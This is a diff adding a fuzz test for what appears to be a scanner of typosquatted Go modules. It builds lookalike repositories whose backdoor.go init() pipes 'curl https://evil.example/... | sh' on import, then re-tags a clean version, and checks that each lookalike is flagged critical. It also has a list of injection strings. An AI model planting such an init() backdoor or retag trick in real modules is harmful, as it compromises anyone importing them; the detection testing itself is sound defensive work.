@@ -1,0 +1,191 @@
+import assert from 'node:assert/strict'
+import { mkdtemp, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import { after, before, suite, test } from 'node:test'
+import { exportFindings, type Finding } from '@mirrorwatch/store/findings-list'
+import { upsertTargets } from '@mirrorwatch/store/targets'
+import type { FileChange, RepositorySpec } from '@mirrorwatch/world/spec'
+import { startWorld, type World } from '@mirrorwatch/world/world'
+import { openTestRuntime, scanAll, type TestRuntime } from './scan-world.ts'
+
+/** Modules; set for longer runs by hand. */
+const MODULES = Number(process.env['MIRRORWATCH_FUZZ_MODULES'] ?? 12)
+const SEED = Number(process.env['MIRRORWATCH_FUZZ_SEED'] ?? 1)
+
+/** Text that some column, cut, escape or parser might not bear. */
+const PIECES = [
+  '😀',
+  '𝐀',
+  '\0',
+  '\\u0000',
+  '\\x00\\ud83d',
+  '\ufffd',
+  '\u202e',
+  '\u2028',
+  '\u200b',
+  '\ufeff',
+  '\u001b[2J',
+  '\r',
+  '\t',
+  '\\',
+  "'",
+  '`',
+  '</script>',
+  '=1+1',
+  '$1',
+  '{{.}}',
+  '%00',
+  'é',
+  'a\u0301',
+]
+
+function seeded(seed: number): () => number {
+  let state = seed
+  return () => {
+    state = (state + 0x6d2b79f5) | 0
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
+  }
+}
+
+class Hostile {
+  readonly #random: () => number
+
+  constructor(seed: number) {
+    this.#random = seeded(seed)
+  }
+
+  below(n: number): number {
+    return Math.floor(this.#random() * n)
+  }
+
+  /** Plain up to about where a line, a quote or a diff is cut, and then a crowd of strange characters. */
+  text(): string {
+    const plain = [0, 30, 110, 150, 195, 290, 390, 1_990, 3_900][this.below(9)] ?? 0
+    let text = 'x'.repeat(plain + this.below(10))
+    const strange = this.below(2) === 0 ? ['😀', '𝐀'] : PIECES
+    for (let n = this.below(40); n >= 0; n--) text += strange[this.below(strange.length)]
+    return text
+  }
+
+  file(): Buffer {
+    const lines = Array.from({ length: 1 + this.below(60) }, () => this.text())
+    const content = Buffer.from(lines.join('\n'))
+    // What is no UTF-8 at all.
+    if (this.below(4) === 0) content[this.below(content.length)] = 0xff
+    return content
+  }
+
+  /** Letters that Go allows in file names, two UTF-16 units each among them. */
+  name(): string {
+    return `${'n'.repeat(this.below(3))}${'𝐀é'.repeat(1 + this.below(12))}`
+  }
+
+  /** Ten letters of which no two neighbours are equal, so that any two of them swapped are another owner. */
+  owner(): string {
+    let owner = ''
+    while (owner.length < 10) {
+      const letter = 'bcdfghjklmnpqrtvwz'[this.below(18)] ?? ''
+      if (!owner.endsWith(letter)) owner += letter
+    }
+    return owner
+  }
+}
+
+/** Whatever else is in the files, this is what has to be found. */
+function payload(hostile: Hostile): string {
+  const text = hostile.text().replaceAll(/[`"\\\n\r\0\ufeff]/g, '')
+  return `package validator
+
+import "os/exec"
+
+// ${text.replaceAll(/[\u2028]/g, '')}
+func init() { /* ${text} */ exec.Command("sh", "-c", "curl https://evil.example/${text} | sh; echo \\x00\\xff\\ud7ff").Run() }
+`
+}
+
+interface Case {
+  target: string
+  lookalike: string
+  specs: RepositorySpec[]
+}
+
+function makeCase(hostile: Hostile): Case {
+  const owner = hostile.owner()
+  const swapped = `${owner.slice(0, 4)}${owner[5]}${owner[4]}${owner.slice(6)}`
+  const target = `github.com/${owner}/validator`
+  const lookalike = `github.com/${swapped}/validator`
+  const clean = {
+    'validator.go': '// Package validator checks.\npackage validator\n\nfunc Check() bool { return true }\n',
+  }
+  const strange: Record<string, FileChange> = { 'README.md': hostile.file() }
+  for (let n = hostile.below(6); n >= 0; n--)
+    strange[`${hostile.name()}${n}.${n % 2 === 0 ? 'go' : 'txt'}`] = hostile.file()
+  const publish = (module: string, files: Record<string, FileChange>): RepositorySpec => ({
+    path: module,
+    author: 'Somebody <somebody@example.org>',
+    steps: [
+      {
+        do: 'commit',
+        time: '2026-02-01T10:00:00Z',
+        message: hostile.text().replaceAll('\0', '') || 'One',
+        files: { 'go.mod': `module ${module}\n`, ...clean, ...files },
+      },
+      { do: 'tag', name: 'v1.0.0' },
+      { do: 'cache', module, version: 'v1.0.0', at: '2026-02-01T10:00:30.5Z' },
+    ],
+  })
+  const bad = publish(lookalike, { ...strange, 'backdoor.go': payload(hostile) })
+  bad.steps.push(
+    {
+      do: 'commit',
+      time: '2026-02-02T10:00:00Z',
+      message: 'Clean',
+      clear: true,
+      files: { 'go.mod': `module ${lookalike}\n`, ...clean },
+    },
+    { do: 'tag', name: 'v1.0.0' },
+  )
+  return { target, lookalike, specs: [publish(target, {}), bad] }
+}
+
+suite('modules of strange text', () => {
+  let world: World
+  let folder: string
+  let opened: TestRuntime
+  let cases: Case[]
+  let findings: Map<string, Finding>
+
+  before(async () => {
+    const hostile = new Hostile(SEED)
+    cases = Array.from({ length: MODULES }, () => makeCase(hostile))
+    world = await startWorld({ repositories: cases.flatMap(({ specs }) => specs) })
+    folder = await mkdtemp(path.join(tmpdir(), 'mirrorwatch-strange-'))
+    opened = await openTestRuntime({ ...world.env, MIRRORWATCH_DATA_DIR: folder })
+    const targets = cases.map(({ target }) => ({ path: target, dependents: 3_000 }))
+    await opened.runtime.store.db
+      .transaction()
+      .execute((trx) => upsertTargets(trx, targets, 'import', new Date('2026-02-01T10:00:00Z')))
+    assert.equal((await scanAll(opened)).failed, 0, opened.logged.join('\n'))
+    const all = await Array.fromAsync(exportFindings(opened.runtime.store.db))
+    findings = new Map(all.map((finding) => [finding.module, finding]))
+  })
+  after(async () => {
+    await opened?.runtime.close()
+    await world?.close()
+    await rm(folder, { recursive: true, force: true, maxRetries: 3 })
+  })
+
+  test('are all found, with what their zips hide', () => {
+    assert.deepEqual(opened.logged, [])
+    for (const { lookalike, target } of cases) {
+      const finding = findings.get(lookalike)
+      assert.equal(finding?.severity, 'critical', `${lookalike}: ${finding?.because.join('; ')}`)
+      assert.equal(finding?.target, target)
+      const rules = finding?.signals.map(({ rule }) => rule)
+      assert.ok(rules?.includes('tag-moved'), rules?.join())
+    }
+  })
+})
